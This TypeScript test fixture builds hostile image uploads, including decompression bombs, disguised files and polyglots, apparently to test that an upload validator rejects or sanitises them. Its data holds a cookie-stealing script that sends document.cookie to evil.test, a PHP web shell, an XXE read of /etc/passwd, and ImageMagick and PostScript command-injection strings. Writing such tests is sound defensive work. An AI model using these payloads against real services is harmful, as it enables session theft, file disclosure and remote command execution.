import { crc32, deflateSync } from 'node:zlib'
import { aPicture } from './pictures.ts'

export interface HostileFile {
  readonly what: string
  readonly bytes: Buffer
  readonly mediaType: string
  readonly name: string
}

type Format = 'png' | 'jpeg' | 'webp'
const formats: readonly Format[] = ['png', 'jpeg', 'webp']
const file = (what: string, bytes: Buffer, format: Format): HostileFile => ({
  what,
  bytes,
  mediaType: `image/${format}`,
  name: `logo.${format}`,
})
const latin1 = (text: string) => Buffer.from(text, 'latin1')

const script = '<script>fetch("//evil.test/"+document.cookie)</script>'
/** Files that are not pictures, whatever their names. */
const others: Readonly<Record<string, Buffer>> = {
  svg: latin1(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
  'svg with a declaration': latin1('<?xml version="1.0"?><!DOCTYPE svg><svg/>'),
  'svg that reads a file': latin1(
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
  ),
  html: latin1(`<!doctype html>${script}`),
  php: latin1('<?php system($_GET["c"]); ?>'),
  gif: latin1('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0;'),
  bmp: latin1(`BM${'\0'.repeat(64)}`),
  tiff: latin1(`II*\0\x08\0\0\0${'\0'.repeat(32)}`),
  'big tiff': latin1(`MM\0+${'\0'.repeat(32)}`),
  ico: latin1(`\0\0\x01\0\x01\0${'\0'.repeat(32)}`),
  avif: latin1(`\0\0\0\x20ftypavif${'\0'.repeat(32)}`),
  heic: latin1(`\0\0\0\x18ftypheic${'\0'.repeat(32)}`),
  psd: latin1(`8BPS\0\x01${'\0'.repeat(32)}`),
  pdf: latin1('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'),
  zip: latin1(`PK\x03\x04${'\0'.repeat(32)}`),
  elf: latin1(`\x7fELF\x02\x01\x01${'\0'.repeat(32)}`),
  exe: latin1(`MZ\x90\0${'\0'.repeat(64)}`),
  postscript: latin1('%!PS-Adobe-3.0\n(%pipe%id) (r) file'),
  mvg: latin1('push graphic-context\nfill "url(https://evil.test/|id)"\npop graphic-context'),
  xbm: latin1('#define x_width 1\n#define x_height 1\nstatic char x_bits[] = {0x00};'),
  'fits header': latin1('SIMPLE  =                    T'),
  'open exr': latin1(`v/1\x01${'\0'.repeat(32)}`),
  'netpbm bomb': latin1('P6 65000 65000 255\n'),
  'vips header': latin1(`\x08\xf2\xa6\xb6${'\0'.repeat(64)}`),
  nothing: Buffer.alloc(0),
  'one byte': Buffer.from([0x89]),
  zeros: Buffer.alloc(4_096),
}

/** A chunk of a PNG, with the checksum that it should have. */
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([latin1(type), data])
  const numbers = Buffer.alloc(8)
  numbers.writeUInt32BE(data.length, 0)
  numbers.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([numbers.subarray(0, 4), body, numbers.subarray(4)])
}

const pngStart = latin1('\x89PNG\r\n\x1a\n')

function png(width: number, height: number, data: Buffer, depth = 8, colour = 2): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([depth, colour, 0, 0, 0], 8)
  const parts = [chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([pngStart, ...parts])
}

/** Small files that would become enormous. */
function bombs(pictures: Record<Format, Buffer>): HostileFile[] {
  const sides = [5_001, 8_192, 16_383, 32_768, 65_535, 1_000_000, 0x7fffffff]
  const compressed = deflateSync(Buffer.alloc(1_000_000))
  return sides.flatMap((side) => {
    const jpeg = Buffer.from(pictures.jpeg)
    const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
    jpeg.writeUInt16BE(Math.min(side, 65_535), frame + 5)
    jpeg.writeUInt16BE(Math.min(side, 65_535), frame + 7)
    const webp = Buffer.from(pictures.webp)
    const size = Math.min(side, 16_383)
    const header = webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a]))
    webp.writeUInt16LE(size, header + 3)
    webp.writeUInt16LE(size, header + 5)
    return [
      file(`a PNG of ${side} × ${side}`, png(side, side, compressed), 'png'),
      file(`a PNG of ${side} × ${side} bits`, png(side, side, compressed, 1, 0), 'png'),
      file(`a JPEG of ${side} × ${side}`, jpeg, 'jpeg'),
      file(`a WebP of ${size} × ${size} for ${side}`, webp, 'webp'),
    ]
  })
}

/** Pictures that are cut off, or whose content does not match their checksums. */
function broken(pictures: Record<Format, Buffer>): HostileFile[] {
  return formats.flatMap((format) => {
    const whole = pictures[format]
    const cut = Array.from({ length: 60 }, (_, index) => {
      const length = Math.floor((whole.length * 0.9 * index) / 60)
      return file(`a ${format} cut at ${length}`, whole.subarray(0, length), format)
    })
    const start = { png: 16, jpeg: 3, webp: 16 }[format]
    const noise = Array.from({ length: 20 }, (_, index) => {
      const bytes = Buffer.from(whole)
      for (let at = start; at < bytes.length; at += 1) bytes[at] = (at * 31 + index * 97) % 251
      return file(`noise ${index} behind the start of a ${format}`, bytes, format)
    })
    return [...cut, ...noise]
  })
}

/** Other kinds of file under each accepted extension and type. */
function renamed(): HostileFile[] {
  return Object.entries(others).flatMap(([what, bytes]) =>
    formats.map((format) => file(`${what} called ${format}`, bytes, format)),
  )
}

/** Real pictures whose extension, type or bytes disagree. */
function disagreeing(pictures: Record<Format, Buffer>): HostileFile[] {
  const said = ['image/png', 'image/jpeg', 'image/webp', 'image/svg+xml', 'text/html', '']
  const called = ['a.png', 'a.jpg', 'a.webp', 'a.svg', 'a.html', 'a.php', 'a.png.exe', 'a', '.png ']
  const right: Record<Format, RegExp> = { png: /\.png ?$/, jpeg: /\.jpg$/, webp: /\.webp$/ }
  return formats.flatMap((format) =>
    said.flatMap((mediaType) =>
      called
        .filter((name) => mediaType !== `image/${format}` || !right[format].test(name))
        .map((name) => ({
          what: `a ${format} said to be ${mediaType}, called ${name}`,
          bytes: pictures[format],
          mediaType,
          name,
        })),
    ),
  )
}

/** Files that must each be refused. */
export async function hostilePictures(): Promise<readonly HostileFile[]> {
  const pictures = await realPictures()
  return [...renamed(), ...disagreeing(pictures), ...bombs(pictures), ...broken(pictures)]
}

/** Real pictures with other data inside: they may be accepted, without these data. */
export async function carryingPictures(): Promise<
  readonly (HostileFile & { readonly carries: string })[]
> {
  const pictures = await realPictures()
  const carried = [script, '<?php system("id"); ?>', 'PK\x03\x04 evil.jar', '%PDF-1.7 /JavaScript']
  return formats.flatMap((format) =>
    carried.flatMap((carries) =>
      [latin1(carries), Buffer.concat([Buffer.alloc(70_000), latin1(carries)])].map((tail) => ({
        ...file(
          `a ${format} before ${tail.length} bytes with ${carries}`,
          Buffer.concat([pictures[format], tail]),
          format,
        ),
        carries,
      })),
    ),
  )
}

async function realPictures(): Promise<Record<Format, Buffer>> {
  const [png, jpeg, webp] = await Promise.all(formats.map((format) => aPicture(format)))
  if (png === undefined || jpeg === undefined || webp === undefined) throw new Error('No pictures.')
  return { png, jpeg, webp }
}
